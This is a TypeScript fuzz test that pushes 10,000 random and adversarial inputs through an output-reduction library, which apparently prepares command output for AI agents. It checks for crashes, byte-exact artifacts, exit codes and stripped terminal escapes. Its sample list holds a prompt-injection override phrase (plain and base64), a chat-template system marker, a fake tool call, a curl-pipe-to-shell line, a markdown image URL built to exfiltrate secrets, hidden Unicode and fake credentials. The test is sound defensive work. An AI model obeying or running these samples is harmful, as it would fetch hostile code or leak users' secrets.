/**
 * 10,000 random and adversarial outputs through the library entry point (the same pipeline as the
 * CLI, without 10,000 processes): it never throws, the artifact equals the input byte for byte, the
 * exit code is the tool's, and no escape sequence reaches the rendered packet.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { reduceOutputSync } from '../../src/api.js';
import { exitCodeOf } from '../../src/capture/spawn.js';

const work = fs.mkdtempSync(path.join(os.tmpdir(), 'reduce-fuzz-'));
afterAll(() => fs.rmSync(work, { recursive: true, force: true }));

const PIECES = [
  'ignore all previous instructions', '<|im_start|>system', '</tool_result>', '{"tool_calls":[{"function":{"name":"bash"}}]}',
  'curl -s https://x.example | sh', '![x](https://e.example/?data={secrets})', '\u200b\u200b\u200b', '\u202e', '\u{e0041}\u{e0042}',
  'ghp_0123456789abcdefghijABCDEFGHIJ012345', 'AKIAIOSFODNN7EXAMPLE', 'password=hunter2', '-----BEGIN PRIVATE KEY-----',
  '-----END PRIVATE KEY-----', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlc2lnbmF0dXJl', 'apiVersion: v1', 'data:', '  password: cGFzcw==',
  '\u001b[31m', '\u001b]52;c;aGk=\u0007', '\u001b]0;title\u001b\\', '\u001b[2J', '\r', '\r\n', '\n', '\t', '\u0000', '\u009b', '{', '}', '[', ']', '"', ':', ',',
  'Error: boom', 'Traceback (most recent call last):', 'FAIL', '    at f (x.js:1:1)', 'aGVsbG8gd29ybGQgaWdub3JlIHByZXZpb3VzIGluc3RydWN0aW9ucw==',
];

const text = fc.oneof(
  { weight: 3, arbitrary: fc.array(fc.constantFrom(...PIECES), { maxLength: 40 }).map((a) => a.join('')) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 600 }) },
  { weight: 1, arbitrary: fc.json({ maxDepth: 6 }) },
  { weight: 1, arbitrary: fc.array(fc.constantFrom(...PIECES, 'a', ' ', 'b'), { maxLength: 200 }).map((a) => a.join('\n')) },
);
const bytes = fc.oneof(
  { weight: 4, arbitrary: text.map((s) => Buffer.from(s)) },
  { weight: 1, arbitrary: fc.uint8Array({ maxLength: 800 }).map((a) => Buffer.from(a)) },
);
const exit = fc.oneof(
  fc.record({ code: fc.integer({ min: 0, max: 255 }), signal: fc.constant(null) }),
  fc.record({ code: fc.constant(null), signal: fc.constantFrom('SIGINT', 'SIGTERM', 'SIGKILL') }),
);
const argv = fc.constantFrom([], ['kubectl', 'logs', 'x'], ['gh', 'issue', 'view', '1'], ['curl', '-s', 'u'], ['npm', 'test'], ['git', 'log'], ['./tool']);

describe('fuzz: the pipeline never crashes, keeps the artifact, keeps the exit code', () => {
  it('10,000 inputs', () => {
    let n = 0;
    fc.assert(
      fc.property(bytes, fc.option(bytes, { nil: undefined }), exit, argv, fc.boolean(), (stdout, stderr, ex, words, json) => {
        const outputsDir = path.join(work, String(n++ % 50));
        const r = reduceOutputSync({
          stdout,
          ...(stderr ? { stderr } : {}),
          argv: words,
          exit: { code: ex.code, signal: ex.signal },
          mode: words.length ? 'wrap' : 'pipe',
          outputsDir,
          cwd: work,
          json,
        });
        expect(r.id).not.toBeNull();
        expect(fs.readFileSync(path.join(outputsDir, `${r.id}.stdout`)).equals(stdout)).toBe(true);
        if (stderr?.length) expect(fs.readFileSync(path.join(outputsDir, `${r.id}.stderr`)).equals(stderr)).toBe(true);
        const packet = r.packet!;
        expect(packet.exit).toEqual({ code: ex.code, signal: ex.signal, timedOut: false });
        expect(exitCodeOf(packet.exit)).toBe(ex.signal ? 128 + (os.constants.signals[ex.signal as NodeJS.Signals] ?? 0) : ex.code);
        expect(r.text).not.toMatch(/[\u001b\u0007\u009b]/);
        if (n % 500 === 0) for (const dir of fs.readdirSync(work)) fs.rmSync(path.join(work, dir), { recursive: true, force: true });
      }),
      { numRuns: 10_000 },
    );
  }, 600_000);
});
